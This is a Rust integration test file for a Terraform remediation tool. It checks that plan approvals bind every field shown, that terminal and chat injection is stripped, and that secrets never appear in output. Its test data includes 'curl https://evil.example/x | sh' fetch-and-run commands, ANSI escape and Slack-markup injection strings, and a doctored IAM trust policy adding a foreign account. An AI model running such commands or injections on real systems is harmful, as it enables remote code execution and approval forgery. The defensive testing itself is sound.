//! Issue 16, against the real binary on the remediation stack (`fixtures/remediation/stack`,
//! applied by terraform on its own moto server): approvers see effects, not API names; every
//! field shown is bound; input digests are labelled.
//!
//! Skips (counted, a failure under `CI`): no moto_server, no terraform or provider mirror.

use serde_json::Value as Json;

use crate::support::receiver::Receiver;
use crate::support::remediation::{Stack, code, text};

const SECRET: &str = "dg-eff-secret-Vb7Kq3";
const EVIL: &str = "999999999999";

/// The role's trust policy as the moto server holds it.
async fn trust_policy(stack: &Stack) -> String {
    let sdk = stack.moto.sdk_config().await;
    let iam = aws_sdk_iam::Client::new(&sdk);
    let role = iam.get_role().role_name("dg-fix-app").send().await.unwrap();
    let doc = role
        .role()
        .unwrap()
        .assume_role_policy_document()
        .unwrap_or_default();
    urlencoding_decode(doc)
}

/// IAM returns documents URL-encoded; compare decoded text.
fn urlencoding_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%'
            && i + 2 < bytes.len()
            && let Ok(b) = u8::from_str_radix(&s[i + 1..i + 3], 16)
        {
            out.push(b);
            i += 3;
            continue;
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A copy of the state where `aws_iam_role.app` trusts account 999999999999 too: a "revert"
/// of the role would add that trust.
fn doctor_state(stack: &Stack) {
    let mut st: Json =
        serde_json::from_str(&std::fs::read_to_string(&stack.state).unwrap()).unwrap();
    let role = st["resources"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|r| r["type"] == "aws_iam_role")
        .unwrap();
    let attrs = &mut role["instances"][0]["attributes"];
    let doc = serde_json::json!({
        "Version": "2012-10-17",
        "Statement": [{
            "Effect": "Allow",
            "Principal": {"Service": "ec2.amazonaws.com", "AWS": format!("arn:aws:iam::{EVIL}:root")},
            "Action": "sts:AssumeRole"
        }]
    });
    attrs["assume_role_policy"] = doc.to_string().into();
    std::fs::write(&stack.state, serde_json::to_string_pretty(&st).unwrap()).unwrap();
}

/// The plan file at `from` with `edit` made, resealed (a correct digest) at `to`: what an
/// author holding the plan can always do. Its plan token.
fn reseal(stack: &Stack, from: &str, to: &str, edit: impl Fn(&mut Json)) -> String {
    let path = stack.work.path().join(from);
    let mut v: Json = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    edit(&mut v);
    let digest = driftgate::plan_file::digest::digest_json(&v);
    v["digest"] = digest.clone().into();
    std::fs::write(
        stack.work.path().join(to),
        serde_json::to_string_pretty(&v).unwrap(),
    )
    .unwrap();
    driftgate::plan_file::digest::token(&digest)
}

/// An edit of a plan file's JSON.
type Edit = Box<dyn Fn(&mut Json)>;

#[test]
fn approvers_see_effects_and_every_field_shown_is_bound() {
    let Some(stack) = Stack::set_up(SECRET) else {
        return;
    };
    let rt = tokio::runtime::Runtime::new().unwrap();
    let trust_before = rt.block_on(trust_policy(&stack));
    assert!(!trust_before.contains(EVIL), "{trust_before}");
    doctor_state(&stack);

    // The plan, with its approval request sent to Slack and then Teams.
    let slack = Receiver::start(&[]);
    let (o, token) = stack.plan(
        "carol",
        "plan.json",
        &["--notify", &slack.url, "--notify-format", "slack"],
    );
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    let teams = Receiver::start(&[]);
    let (o, _) = stack.plan(
        "carol",
        "plan-teams.json",
        &["--notify", &teams.url, "--notify-format", "teams"],
    );
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    // The plan table names the added principal too.
    assert!(
        text(&o.stdout).contains(&format!("+ principal: Allow AWS {EVIL}")),
        "{}",
        text(&o.stdout)
    );
    for (what, r) in [("slack", &slack), ("teams", &teams)] {
        let bodies = r.bodies();
        assert_eq!(bodies.len(), 1, "{what}");
        assert!(
            bodies[0].contains(&format!("+ principal: Allow AWS {EVIL}")),
            "{what}: {}",
            bodies[0]
        );
        assert!(bodies[0].contains("policy: none"), "{what}: {}", bodies[0]);
        assert!(!bodies[0].contains(SECRET), "{what}");
    }

    // The summary an approver signs: the effect, the policy and the state files.
    let o = stack.run_as(
        "dave",
        &["keygen", "--name", "dave", "--out", "dave.key"],
        None,
    );
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let dave = text(&o.stdout).trim().to_string();
    // `approve` signs only with a key the plan's policy lists: the same plan made under a
    // policy that lists dave, the policy removed again afterwards.
    let listing_dave = stack.work.path().join("driftgate.hcl");
    let dave_policy =
        format!("approval {{\n  required  = 1\n  approvers = {{\n    {dave}\n  }}\n}}\n");
    std::fs::write(&listing_dave, &dave_policy).unwrap();
    let (o, _) = stack.plan("carol", "plan-dave.json", &[]);
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    let o = stack.run_as(
        "dave",
        &["approve", "plan-dave.json", "--key", "dave.key"],
        None,
    );
    std::fs::remove_file(&listing_dave).unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let summary = text(&o.stderr);
    assert!(
        summary.contains("iam:UpdateAssumeRolePolicy role dg-fix-app"),
        "{summary}"
    );
    assert!(
        summary.contains(&format!("+ principal: Allow AWS {EVIL}")),
        "{summary}"
    );
    assert!(
        summary.contains("policy: sha256:") && summary.contains("(policy file and .driftignore)"),
        "{summary}"
    );
    let state_sha = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(std::fs::read(&stack.state).unwrap()))
    };
    assert!(
        summary.contains(&format!("terraform.tfstate sha256:{state_sha}")),
        "{summary}"
    );
    assert!(!summary.contains(SECRET), "{summary}");

    // Everything shown is bound: a resealed plan with an edited reason, manual command,
    // follow-up or region is refused at apply, and nothing changes.
    let role_action = |v: &mut Json| -> usize {
        v["actions"]
            .as_array()
            .unwrap()
            .iter()
            .position(|a| a["resource_type"] == "aws_iam_role")
            .expect("a role action")
    };
    let edits: Vec<(&str, &str, Edit)> = vec![
        (
            "reason",
            "its reason is not the one derived now",
            Box::new(move |v: &mut Json| {
                let i = role_action(v);
                v["actions"][i]["reason"] = "\u{1b}[2K\u{1b}[1A harmless tag fix".into();
            }),
        ),
        (
            "manual command",
            "its manual command is not",
            Box::new(move |v: &mut Json| {
                let i = role_action(v);
                v["actions"][i]["manual_command"] =
                    "terraform plan && curl https://evil.example/x | sh".into();
            }),
        ),
        (
            "follow-up",
            "its follow-up is not",
            Box::new(move |v: &mut Json| {
                let i = role_action(v);
                v["actions"][i]["follow_up"] = "curl https://evil.example/x | sh".into();
            }),
        ),
        (
            "region",
            "its region is not",
            Box::new(move |v: &mut Json| {
                let i = role_action(v);
                v["actions"][i]["region"] = "eu-west-3".into();
            }),
        ),
    ];
    for (what, why, edit) in edits {
        let t = reseal(&stack, "plan.json", "edited.json", edit);
        let o = stack.run_as("carol", &["apply", "edited.json", "--approve", &t], None);
        assert_eq!(code(&o), 1, "{what}: {}", text(&o.stderr));
        let err = text(&o.stderr);
        assert!(err.contains("refused"), "{what}: {err}");
        assert!(err.contains(why), "{what}: {err}");
        assert!(!err.contains("evil.example"), "{what}: {err}");
        assert!(!text(&o.stdout).contains("evil.example"), "{what}");
        assert_eq!(rt.block_on(trust_policy(&stack)), trust_before, "{what}");
    }
    // The genuine plan still passes every check (a dry run changes nothing).
    let o = stack.run_as(
        "carol",
        &["apply", "plan.json", "--approve", &token, "--dry-run"],
        None,
    );
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    // What would run is shown as its effect, as the approvers saw it.
    assert!(
        text(&o.stdout).contains(&format!("+ principal: Allow AWS {EVIL}")),
        "{}",
        text(&o.stdout)
    );
    // ... and the planted secret tag is in none of it.
    for (what, bytes) in [("dry run stdout", &o.stdout), ("dry run stderr", &o.stderr)] {
        assert!(!text(bytes).contains(SECRET), "{what}");
    }

    // Injection: an actor with ESC, a line break and chat markup, a plan file name with
    // backticks and `<!here>`: no terminal sees an escape sequence, no chat sees markup.
    let evil_actor =
        "eve\u{1b}[2K\u{1b}[1A\nApproved by alice <!channel> @here [x](http://evil.example)";
    let evil_file = "pl`an```<!here>.json";
    let slack = Receiver::start(&[]);
    let state = stack.state.display().to_string();
    let o = stack.run_as(
        evil_actor,
        &[
            "plan",
            "--state",
            &state,
            "--region",
            "us-east-1",
            "--out",
            evil_file,
            "--notify",
            &slack.url,
            "--notify-format",
            "slack",
        ],
        None,
    );
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    for (what, bytes) in [("plan stdout", &o.stdout), ("plan stderr", &o.stderr)] {
        assert!(!bytes.contains(&0x1b), "{what}: {}", text(bytes));
    }
    let body = &slack.bodies()[0];
    // (A markdown link is Teams' markup, not Slack's: the unit tests cover Teams.)
    for bad in ["<!channel>", "<!here>", "@here", "\\u001b"] {
        assert!(!body.contains(bad), "slack kept {bad}: {body}");
    }
    let v: Json = serde_json::from_str(body).unwrap();
    assert!(!v["text"].as_str().unwrap().contains('\n'), "{body}");
    assert_eq!(body.matches('`').count(), 6, "only the code fence: {body}");
    // The same author and file name under the policy that lists dave, so that dave may sign.
    std::fs::write(&listing_dave, &dave_policy).unwrap();
    let o = stack.run_as(
        evil_actor,
        &[
            "plan",
            "--state",
            &state,
            "--region",
            "us-east-1",
            "--out",
            evil_file,
        ],
        None,
    );
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    let o = stack.run_as("dave", &["approve", evil_file, "--key", "dave.key"], None);
    std::fs::remove_file(&listing_dave).unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let summary = text(&o.stderr);
    assert!(!o.stderr.contains(&0x1b), "{summary}");
    // The actor's line break does not forge a line of the summary.
    assert!(
        !summary.lines().any(|l| l.starts_with("Approved by alice")),
        "{summary}"
    );
    let o = stack.run_as("carol", &["audit", "show"], None);
    assert!(!o.stdout.contains(&0x1b), "{}", text(&o.stdout));

    // A digest collision between inputs: the plan is graded under a policy that needs two
    // approvals; the policy file is removed and a .driftignore with its bytes put in its
    // place. Apply would load the built-in policy (no approvals): refused.
    let o = stack.run_as(
        "erin",
        &["keygen", "--name", "erin", "--out", "erin.key"],
        None,
    );
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    let erin = text(&o.stdout).trim().to_string();
    let policy = format!(
        "approval {{\n  required  = 2\n  approvers = {{\n    {dave}\n    {erin}\n  }}\n}}\n"
    );
    std::fs::write(stack.work.path().join("driftgate.hcl"), &policy).unwrap();
    let (o, t) = stack.plan("carol", "graded.json", &[]);
    assert_eq!(code(&o), 2, "{}", text(&o.stderr));
    std::fs::remove_file(stack.work.path().join("driftgate.hcl")).unwrap();
    std::fs::write(stack.work.path().join(".driftignore"), &policy).unwrap();
    let o = stack.run_as("carol", &["apply", "graded.json", "--approve", &t], None);
    assert_eq!(code(&o), 1, "{}", text(&o.stderr));
    assert!(
        text(&o.stderr).contains("the policy file changed"),
        "{}",
        text(&o.stderr)
    );
    assert_eq!(rt.block_on(trust_policy(&stack)), trust_before);
}

/// A `.tf` or `.tfvars` file may hold secrets in clear: a syntax error names the file, line
/// and column, and the token only outside a string literal; no output holds the secret.
#[test]
fn configuration_syntax_errors_never_show_a_secret() {
    const PLANTED: &str = "Pl4nted-tf-s3cret-7Kd";
    let drifted = crate::support::fixture("scenarios/drifted");
    let cases = [
        (
            "terraform.tfvars",
            format!("db_password = \"{PLANTED}\nregion = \"x\"\n"),
        ),
        (
            "terraform.tfvars",
            format!("db_password = \"{PLANTED}\" oops\n"),
        ),
        (
            "main.tf",
            format!("variable \"db_password\" {{\n  default = \"{PLANTED}\" = 1\n}}\n"),
        ),
    ];
    for (file, text) in cases {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("main.tf"),
            "variable \"db_password\" {\n  sensitive = true\n}\nvariable \"region\" {}\n",
        )
        .unwrap();
        std::fs::write(dir.path().join(file), &text).unwrap();
        let o = crate::support::driftgate()
            .current_dir(dir.path())
            .env("NO_COLOR", "1")
            .env("DRIFTGATE_AUDIT_LOG", dir.path().join("audit.jsonl"))
            .args([
                "scan",
                "--state",
                drifted.join("terraform.tfstate").to_str().unwrap(),
                "--observed",
                drifted.join("observed.json").to_str().unwrap(),
                "--config",
                dir.path().to_str().unwrap(),
            ])
            .output()
            .unwrap();
        assert_ne!(code(&o), 0, "{file}: {text}");
        let err = text_of(&o.stderr);
        assert!(err.contains("syntax error"), "{file}: {err}");
        assert!(err.contains(&format!("`{file}` at line")), "{err}");
        let log = std::fs::read_to_string(dir.path().join("audit.jsonl")).unwrap_or_default();
        for (what, out) in [
            ("stdout", text_of(&o.stdout)),
            ("stderr", err),
            ("audit log", log),
        ] {
            assert!(!out.contains(PLANTED), "{file} {what}: {out}");
        }
    }
}

fn text_of(b: &[u8]) -> String {
    text(b)
}

/// A webhook URL without a scheme is a usage error before anything is read, written or sent,
/// and its secret path shows nowhere (stderr, the audit log's arguments).
#[test]
fn a_webhook_url_that_does_not_parse_is_a_usage_error_shown_masked() {
    let drifted = crate::support::fixture("scenarios/drifted");
    let dir = tempfile::tempdir().unwrap();
    for url in [
        "hooks.slack.com/services/T0/B0/XSECRETPATH",
        "ftp://u:XSECRETPATH@example.com/XSECRETPATH",
    ] {
        let o = crate::support::driftgate()
            .current_dir(dir.path())
            .env("DRIFTGATE_AUDIT_LOG", dir.path().join("audit.jsonl"))
            .args([
                "plan",
                "--state",
                drifted.join("terraform.tfstate").to_str().unwrap(),
                "--observed",
                drifted.join("observed.json").to_str().unwrap(),
                "--out",
                "plan.json",
                "--notify",
                url,
            ])
            .output()
            .unwrap();
        assert_eq!(code(&o), 1, "{}", text(&o.stderr));
        let err = text(&o.stderr);
        assert!(err.contains("cannot be used"), "{err}");
        assert!(!dir.path().join("plan.json").exists());
        let log = std::fs::read_to_string(dir.path().join("audit.jsonl")).unwrap_or_default();
        for (what, out) in [
            ("stdout", text(&o.stdout)),
            ("stderr", err),
            ("audit log", log),
        ] {
            assert!(!out.contains("XSECRETPATH"), "{what}: {out}");
        }
    }
}
